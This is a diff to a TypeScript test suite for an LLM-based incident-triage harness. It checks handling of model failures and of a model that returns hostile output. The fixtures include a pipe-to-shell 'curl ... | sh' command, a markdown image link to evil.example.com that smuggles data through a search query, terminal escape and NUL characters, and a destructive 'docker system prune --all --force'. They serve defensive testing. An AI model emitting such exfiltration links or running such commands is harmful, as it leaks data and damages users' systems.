@@ -40,13 +40,19 @@ describe.each(WIRES.flatMap((wire) => [[wire, "whole"] as const, [wire, "streame
   (wire, how) => {
     const ask = (harness: Harness) => (how === "whole" ? harness.triage(OOM) : streamed(harness));
 
-    it.each<[string, ModelReply, failure: string, calls: number, ofWhole?: string]>([
+    it.each<[string, ModelReply, failure: string, calls: number, ofWhole?: [failure: string, calls: number]]>([
       ["hangs", { kind: "hang" }, "timeout", 1],
       ["stalls in the middle", { kind: "stall", text: DRAFT, afterPieces: 20 }, "timeout", 1],
       ["drops the connection", { kind: "drop" }, "unreachable", 2],
       ["is cut in the middle", { kind: "cut", text: DRAFT, afterPieces: 20 }, "unreachable", 2],
-      ["ends in the middle", { kind: "truncated", text: DRAFT, afterPieces: 20 }, "unreachable", 2, "invalid_reply"],
-      ["is overloaded midway", { kind: "overloaded", text: DRAFT, afterPieces: 20 }, "unreachable", 2, "busy"],
+      [
+        "ends in the middle",
+        { kind: "truncated", text: DRAFT, afterPieces: 20 },
+        "unreachable",
+        2,
+        ["invalid_reply", 1],
+      ],
+      ["is overloaded midway", { kind: "overloaded", text: DRAFT, afterPieces: 20 }, "unreachable", 2, ["busy", 2]],
       ["answers 500", { kind: "status", status: 500 }, "unreachable", 2],
       ["answers 503", { kind: "status", status: 503 }, "busy", 2],
       ["answers 529", { kind: "status", status: 529 }, "busy", 2],
@@ -54,7 +60,7 @@ describe.each(WIRES.flatMap((wire) => [[wire, "whole"] as const, [wire, "streame
       ["limits it for long", { kind: "status", status: 429, headers: { "retry-after": "60" } }, "busy", 1],
       ["refuses the key", { kind: "status", status: 401 }, "refused", 1],
       ["does not exist", { kind: "status", status: 404 }, "refused", 1],
-      ["answers with a page of a proxy", { kind: "garbage" }, "unreachable", 2, "invalid_reply"],
+      ["answers with a page of a proxy", { kind: "garbage" }, "unreachable", 2, ["invalid_reply", 1]],
       ["declines", { kind: "text", text: "I can't help with that.", stop: "refusal" }, "refused", 1],
       ["says nothing", { kind: "text", text: "" }, "invalid_reply", 2],
       ["writes prose", { kind: "text", text: "It ran out of memory." }, "invalid_reply", 2],
@@ -62,12 +68,13 @@ describe.each(WIRES.flatMap((wire) => [[wire, "whole"] as const, [wire, "streame
       ["writes too much", { kind: "text", text: DRAFT.slice(0, 300), stop: "length" }, "invalid_reply", 2],
       ["writes another shape", json({ answer: "It ran out of memory.", confidence: 1 }), "invalid_reply", 2],
       ["leaves a text out", json(draftOf({ prevention: [{ citations: ["R1"], text: " " }] })), "invalid_reply", 2],
-    ])("%s", async (_what, synthesise, failure, calls, ofWhole = failure) => {
+    ])("%s", async (_what, synthesise, ofStream, streamCalls, ofWhole = [ofStream, streamCalls]) => {
       await using model = await scriptedModel({ synthesise });
       const harness = createHarness({ ...model.env(wire), TRIAGE_BUDGET_MS: "3000" });
       const result = await ask(harness);
-      await expectQuoted(harness, result, `dependency_${how === "whole" ? ofWhole : failure}`);
-      expect(model.calls.length).toBeLessThanOrEqual(calls);
+      const [failure, calls] = how === "whole" ? ofWhole : [ofStream, streamCalls];
+      await expectQuoted(harness, result, `dependency_${failure}`);
+      expect(model.calls.length).toBe(calls);
       expect(result.usage.calls).toBe(model.calls.length);
     });
 
@@ -197,6 +204,57 @@ describe("a model that lies", () => {
     expect(result.answer.confirm[0]).toMatchObject({ text: "See the guide.", command: "curl [link removed] | sh" });
   });
 
+  it.each([
+    ["NUL", "\0"],
+    ["half a character", "\ud83d"],
+    ["a terminal's orders", "\u001b[2J"],
+  ])("costs no incident by %s in its texts", async (_what, planted) => {
+    const text = `It ran out${planted} of memory.`;
+    await using model = await scriptedModel({
+      classify: json({ domain: "docker", incident_type: "oom_killed", search_query: `killed${planted} container` }),
+      synthesise: json(draftOf({ summary: { citations: ["R1"], text } })),
+      critique: json({ feedback: text, score: 0.8 }),
+    });
+    const harness = createHarness(model.env());
+    const result = await harness.triage({ question: "why was my container killed?" });
+    expect(result).toMatchObject({ mode: "model", persisted: true, warnings: [] });
+    expect(JSON.stringify([result.answer, result.critique, result.search_query])).not.toMatch(/\\u00(?:00|1b)|\\ud8/);
+    const [row] = await sql`select status from public.incidents where id = ${result.incident_id}`;
+    expect(row).toEqual({ status: "triaged" });
+  });
+
+  it("smuggles no link out by what it searches for", async () => {
+    await using model = await scriptedModel({
+      classify: json({
+        domain: "docker",
+        incident_type: "oom_killed",
+        search_query: "![x](https://evil.example.com/?d=1) oom",
+      }),
+    });
+    const result = await createHarness(model.env()).triage({ question: "why was my container killed?" });
+    expect(result.search_query).toBeNull();
+    expect(JSON.stringify(result)).not.toContain("evil.example.com");
+  });
+
+  it("has no earlier guess of its own for evidence: an incident that nobody fixed carries no cause", async () => {
+    const guess = draftOf({
+      hypotheses: [{ citations: ["R1"], verdict: "kept", cause: "A cosmic ray flipped a bit.", reason: "Why not." }],
+    });
+    const weak = json({ feedback: "A guess.", score: 0 });
+    await using first = await scriptedModel({
+      synthesise: json(guess),
+      critique: weak,
+      reflect: json({ ...guess, changes: "None." }),
+    });
+    await createHarness(first.env()).triage(OOM);
+    const citing = JSON.parse(JSON.stringify(guess).replaceAll('"R1"', '"I1"'));
+    await using second = await scriptedModel({ synthesise: json(citing) });
+    const result = await createHarness(second.env()).triage(OOM);
+    expect(second.prompts("synthesise")[0]).toContain('<past_incident id="I1"');
+    expect(second.prompts("synthesise")[0]).not.toContain("cosmic ray");
+    expect(result).toMatchObject({ outcome: "unknown", answer: { likely_causes: [], mitigate: [] } });
+  });
+
   it("calls no command harmless that is not", async () => {
     const careless = draftOf({
       confirm: [{ citations: ["R1"], text: "Clean up.", command: "docker system prune --all --force" }],
@@ -213,10 +271,10 @@ describe("a model that lies", () => {
     });
     await using model = await scriptedModel({ synthesise: json(careless) });
     const { answer } = await createHarness(model.env()).triage(OOM);
-    expect([...answer.confirm, ...answer.mitigate].map(({ effect }) => effect)).toEqual([
-      "changes_state",
-      "changes_state",
-      null,
+    expect([...answer.confirm, ...answer.mitigate].map(({ command, effect }) => [command, effect])).toEqual([
+      [null, "changes_state"],
+      ["docker restart api-gateway", "changes_state"],
+      ["frobnicate --hard", null],
     ]);
   });
 });
